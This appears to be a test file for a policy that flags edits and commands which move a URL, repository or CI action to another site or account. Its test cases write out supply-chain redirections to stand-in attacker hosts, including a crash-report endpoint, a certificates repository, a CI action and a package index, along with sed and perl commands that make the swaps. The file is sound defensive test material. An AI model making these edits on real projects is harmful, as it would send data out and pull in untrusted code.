// endpoint-moved-elsewhere: an edit that points a URL, a repository or a CI action at another site or
// another account asks; a version, a path or a ref changed at the same place, a new URL beside the old
// ones, and a move to the team's own network pass.
import { policyTable } from './table';
import { anEdit } from './harness';

policyTable('endpoint-moved-elsewhere', [
  {
    note: "a crash reporter's ingest URL moved to a look-alike",
    spec: anEdit(
      'App/CrashReporter.swift',
      '    static let ingest = URL(string: "https://o412.ingest.sentry.io/api/12/envelope/")!\n',
      '    static let ingest = URL(string: "https://o412.ingest.sentry.evil.example/api/12/envelope/")!\n',
    ),
    expect: 'ask',
  },
  {
    note: "match's certificates repository moved to another account",
    spec: anEdit(
      'fastlane/Matchfile',
      'git_url("git@github.com:harbor-ltd/harbor-certificates.git")\n',
      'git_url("git@github.com:evil-example/harbor-certificates.git")\n',
    ),
    expect: 'ask',
  },
  {
    note: "a CI step's action swapped for a namesake",
    spec: anEdit(
      '.github/workflows/ios.yml',
      '      - uses: maxim-lobanov/setup-xcode@v1\n',
      '      - uses: evil-example/setup-xcode@v1\n',
    ),
    expect: 'ask',
  },
  {
    note: 'a package index moved off the company network',
    spec: anEdit(
      'pip.conf',
      'index-url = https://pypi.acme.internal/simple\n',
      'index-url = https://pypi.evil.example/simple\n',
    ),
    expect: 'ask',
  },
  {
    note: 'near miss: the same action at a newer version',
    spec: anEdit(
      '.github/workflows/ci.yml',
      '      - uses: actions/checkout@v3\n',
      '      - uses: actions/checkout@v4\n',
    ),
    expect: null,
  },
  {
    note: 'near miss: a docs link to a newer page of the same site',
    spec: anEdit(
      'README.md',
      'See https://docs.sentry.io/platforms/apple/guides/ios/ for setup.\n',
      'See https://docs.sentry.io/platforms/apple/ for setup.\n',
    ),
    expect: null,
  },
  {
    note: 'near miss: a dependency pinned to a tag of the same repository',
    spec: anEdit(
      'Podfile',
      "  pod 'HarborUIKit', :git => 'git@github.com:harbor-ltd/HarborUIKit.git', :tag => '2.4.1'\n",
      "  pod 'HarborUIKit', :git => 'git@github.com:harbor-ltd/HarborUIKit.git', :tag => '2.5.0'\n",
    ),
    expect: null,
  },
  {
    note: 'near miss: a second URL added beside the first',
    spec: anEdit(
      'Package.swift',
      '        .package(url: "https://github.com/apple/swift-log.git", from: "1.5.3"),\n',
      '        .package(url: "https://github.com/apple/swift-log.git", from: "1.5.3"),\n        .package(url: "https://github.com/pointfreeco/swift-snapshot-testing.git", from: "1.17.0"),\n',
    ),
    expect: null,
  },
  {
    note: "near miss: a service moved to the team's own network",
    spec: anEdit('.env.example', 'API_URL=https://api.staging.harbor.app\n', 'API_URL=http://localhost:8080\n'),
    expect: null,
  },
  {
    note: "sed swaps the Podfile's spec repository for another account's",
    spec: "sed -i '' 's#git@github.com:harbor-ltd/Specs.git#https://github.com/evil-example/Specs.git#' Podfile",
    expect: 'ask',
  },
  {
    note: "perl -pi moves the crash reporter's host to a look-alike",
    spec: "perl -pi -e 's|https://o12\\.ingest\\.sentry\\.io|https://o12.ingest.sentry-relay.example|g' app/src/sentry.ts",
    expect: 'ask',
  },
  {
    note: 'near miss: sed moves a URL within the same site (staging to production)',
    spec: "sed -i 's#https://api.staging.relay.dev#https://api.relay.dev#' app/.env.production",
    expect: null,
  },
  {
    note: 'near miss: sed prints a changed copy, the file is not edited',
    spec: "sed 's#git@github.com:harbor-ltd/Specs.git#https://github.com/evil-example/Specs.git#' Podfile",
    expect: null,
  },
  {
    note: 'near miss: sed bumps a release in a download URL',
    spec: "sed -i 's#releases/download/v1.2.0/#releases/download/v1.3.0/#' scripts/fetch-tools.sh",
    expect: null,
  },
]);
